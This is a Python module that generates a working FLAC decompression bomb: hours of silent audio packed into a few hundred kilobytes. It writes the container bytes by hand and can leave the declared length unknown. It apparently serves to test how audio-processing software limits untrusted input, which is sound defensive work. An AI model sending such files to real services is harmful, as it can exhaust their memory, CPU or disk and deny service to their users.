"""A FLAC decompression bomb written directly: hours of silence in a few hundred kilobytes.

Every frame is one CONSTANT subframe (the sample value once) for the largest block FLAC allows, so
each 65,535 samples cost 14 bytes; encoding hours of silence with ffmpeg would take minutes instead.
"""

from __future__ import annotations

import struct
from functools import cache

MAX_BLOCK = 65_535
BITS_PER_SAMPLE = 16


@cache
def _crc_table(width: int, polynomial: int) -> tuple[int, ...]:
    top, mask = 1 << (width - 1), (1 << width) - 1
    table = []
    for byte in range(256):
        crc = byte << (width - 8)
        for _ in range(8):
            crc = ((crc << 1) ^ polynomial) & mask if crc & top else (crc << 1) & mask
        table.append(crc)
    return tuple(table)


def _crc(data: bytes, *, width: int, polynomial: int) -> int:
    """FLAC's CRC-8 (x^8+x^2+x+1) after each frame header and CRC-16 (x^16+x^15+x^2+1) after each frame."""
    table, mask, crc = _crc_table(width, polynomial), (1 << width) - 1, 0
    for byte in data:
        crc = ((crc << 8) & mask) ^ table[((crc >> (width - 8)) ^ byte) & 0xFF]
    return crc


def _utf8_number(value: int) -> bytes:
    """FLAC codes the frame number like a UTF-8 character (up to 31 bits)."""
    if value < 0x80:
        return bytes([value])
    payload, extra = [], 0
    while value >= (0x40 >> extra):  # what is left must fit in the lead byte
        payload.append(0x80 | (value & 0x3F))
        value >>= 6
        extra += 1
    lead = (0xFF00 >> (extra + 1)) & 0xFF | value
    return bytes([lead, *reversed(payload)])


def _frame(number: int) -> bytes:
    # Sync, fixed blocking; block size: 16-bit value follows; rate and depth from STREAMINFO; mono.
    header = b"\xff\xf8\x70\x00" + _utf8_number(number) + struct.pack(">H", MAX_BLOCK - 1)
    header += bytes([_crc(header, width=8, polynomial=0x07)])
    frame = header + b"\x00" + b"\x00" * (BITS_PER_SAMPLE // 8)  # CONSTANT subframe, value 0
    return frame + struct.pack(">H", _crc(frame, width=16, polynomial=0x8005))


def _streaminfo(sample_rate: int, total_samples: int) -> bytes:
    # rate (20 bits) | channels-1 (3) | bits-1 (5) | total samples (36), then an MD5 of zeros (unknown).
    packed = (sample_rate << 44) | (0 << 41) | ((BITS_PER_SAMPLE - 1) << 36) | total_samples
    body = struct.pack(">HH", MAX_BLOCK, MAX_BLOCK) + b"\x00" * 6 + packed.to_bytes(8, "big") + b"\x00" * 16
    return bytes([0x80]) + len(body).to_bytes(3, "big") + body  # last metadata block, type STREAMINFO


def flac_bomb(*, hours: float, sample_rate: int = 48_000, declare_length: bool) -> bytes:
    """`hours` of silence; with `declare_length=False` the header leaves the length unknown (0)."""
    num_frames = int(hours * 3600 * sample_rate) // MAX_BLOCK
    total = num_frames * MAX_BLOCK if declare_length else 0
    return b"fLaC" + _streaminfo(sample_rate, total) + b"".join(_frame(n) for n in range(num_frames))
